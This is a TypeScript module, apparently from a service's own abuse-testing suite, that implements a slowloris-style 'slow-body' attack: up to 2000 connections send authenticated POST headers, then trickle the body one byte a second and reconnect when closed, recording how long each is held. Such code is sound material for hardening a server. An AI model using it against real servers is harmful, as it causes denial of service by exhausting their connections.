import { connect, type Socket } from "node:net";
import { count, outcomeOf, type Attack, type AttackReport } from "./http-attack.ts";

const CONNECTIONS = Number(process.env.ABUSE_SLOW_CONNECTIONS ?? 2000);
/** One byte per this many ms: a body of 100 bytes would take minutes. */
const BYTE_EVERY_MS = 1000;

/**
 * Finding 7 of issue 13: many connections that send headers and then the body one byte a second
 * (slowloris on the body). Each connection is reopened when the server closes it, so the pressure
 * stays at CONNECTIONS. Reports how each connection ended and for how long the longest was held.
 */
export const slowBody: Attack = {
  name: "slow-body",
  description: `${CONNECTIONS} connections each sending a 100-byte JSON body at 1 byte/s`,
  async start(baseUrl, { key }) {
    const { hostname, port } = new URL(baseUrl);
    const report: AttackReport = {};
    const sockets = new Set<Socket>();
    let stopped = false;
    let longestHeldMs = 0;
    const head = `POST /v1/compute/nodes/slow/heartbeat HTTP/1.1\r\nHost: berth\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n`;
    const open = (): void => {
      if (stopped) return;
      let connected = 0;
      const socket = connect(Number(port), hostname);
      sockets.add(socket);
      let data = "";
      let error: NodeJS.ErrnoException | undefined;
      let drip: NodeJS.Timeout | undefined;
      socket.on("connect", () => {
        connected = Date.now();
        socket.write(head);
        drip = setInterval(() => socket.writable && socket.write("{"), BYTE_EVERY_MS);
      });
      socket.on("data", (d) => (data += d.toString("latin1")));
      socket.on("error", (e: NodeJS.ErrnoException) => (error = e));
      socket.on("close", () => {
        clearInterval(drip);
        sockets.delete(socket);
        if (stopped) return;
        // Held from the moment the server accepted it (a connect may wait in the listen backlog first).
        if (connected) longestHeldMs = Math.max(longestHeldMs, Date.now() - connected);
        count(report, outcomeOf(data, error));
        // A fresh one after a pause, so the attack does not turn into a connect flood.
        setTimeout(open, 50);
      });
    };
    for (let i = 0; i < CONNECTIONS; i++) open();
    return async () => {
      stopped = true;
      const stillOpen = sockets.size;
      // Every connection the attack keeps is held open at any moment; what matters is that none lasts.
      for (const s of sockets) s.destroy();
      return { ...report, "still held at stop": stillOpen, "longest held ms": longestHeldMs };
    };
  },
};
